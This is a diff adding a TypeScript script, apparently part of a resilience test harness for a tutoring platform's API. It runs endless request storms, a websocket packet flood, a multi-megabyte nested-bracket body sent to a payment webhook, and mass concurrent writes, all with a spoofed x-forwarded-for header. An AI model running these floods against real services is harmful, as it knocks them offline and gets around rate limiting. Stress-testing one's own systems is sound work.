@@ -1,0 +1,85 @@
+import { connect } from "node:net";
+import { setTimeout as pass } from "node:timers/promises";
+import { io } from "socket.io-client";
+import { type AbuseName, type Abuser, appHost, appUrl } from "./world.ts";
+
+const { name, token, tutorId, week } = JSON.parse(process.argv[2] ?? "{}") as Abuser;
+const address = "10.250.0.1";
+const api = `${appUrl}/api/v1`;
+const headers = {
+  host: appHost,
+  origin: `http://${appHost}`,
+  authorization: `Bearer ${token}`,
+  "content-type": "application/json",
+  "x-forwarded-for": address,
+};
+
+/** So many calls at once, again and again. */
+async function storm(atOnce: number, call: (index: number) => Promise<Response>): Promise<void> {
+  for (let turn = 0; ; turn++) {
+    const calls = Array.from({ length: atOnce }, (_, index) => call(turn * atOnce + index).then((response) => response.arrayBuffer()));
+    await Promise.allSettled(calls);
+  }
+}
+
+/** Packets of ten bytes as fast as the line takes them; cut off, it comes again. */
+async function flood(): Promise<void> {
+  for (;;) {
+    const socket = io(appUrl, {
+      path: "/api/v1/socket",
+      transports: ["websocket"],
+      forceNew: true,
+      reconnection: false,
+      auth: { token },
+      extraHeaders: { host: appHost, origin: `http://${appHost}`, "x-forwarded-for": address },
+    });
+    await new Promise((resolve) => void socket.once("connect", resolve as () => void).once("connect_error", resolve));
+    while (socket.connected) {
+      for (let sent = 0; sent < 2_000; sent++) socket.emit("x");
+      await pass(1);
+    }
+    socket.disconnect();
+    await pass(50);
+  }
+}
+
+/** Bodies of nested brackets, each on a connection of its own: a refusal may come before all of it is sent. */
+async function nest(): Promise<void> {
+  const body = "[".repeat(1_450_000) + "]".repeat(1_450_000);
+  const head = `POST /api/v1/webhooks/fawry HTTP/1.1\r\nhost: ${appHost}\r\ncontent-type: application/json\r\nx-forwarded-for: ${address}\r\nconnection: close\r\ncontent-length: ${body.length}\r\n\r\n`;
+  const { hostname, port } = new URL(appUrl);
+  for (;;) {
+    await new Promise<void>((resolve) => {
+      const line = connect(Number(port), hostname, () => line.end(head + body));
+      line.on("error", () => resolve()).on("close", () => resolve());
+      line.resume();
+    });
+  }
+}
+
+const day = 86_400_000;
+const view = `from=${new Date().toISOString()}&to=${new Date(Date.now() + 61 * day).toISOString()}`;
+const writes = [
+  ["PUT", "/user/consent", { kind: "marketing", granted: true }],
+  ["PATCH", "/student/", { job: "مهندسة" }],
+  ["POST", "/notification/read", {}],
+  ["PUT", "/user/notification-method", { method: 0 }],
+  ["POST", "/chat/new", { userId: tutorId, message: "أهلًا" }],
+  ["POST", "/lesson/", { tutorId, start: new Date(Math.ceil(Date.now() / day + 1) * day).toISOString(), duration: 30 }],
+] as const;
+
+const abuses: Record<AbuseName, () => Promise<void>> = {
+  "copying weeks of 600 slots": () =>
+    storm(10, () => fetch(`${api}/availability-slot/copy-week`, { method: "POST", headers, body: JSON.stringify({ week, weeks: 8 }) })),
+  "a flood of packets": flood,
+  "reading two months of starts, sixty at once": () =>
+    storm(60, () => fetch(`${api}/availability-slot/?tutorId=${tutorId}&${view}`, { headers })),
+  "three megabytes of brackets": nest,
+  "660 writes at once": () =>
+    storm(660, (index) => {
+      const [method, path, body] = writes[index % writes.length] as (typeof writes)[number];
+      return fetch(`${api}${path}`, { method, headers, body: JSON.stringify(body) });
+    }),
+};
+
+await abuses[name]();
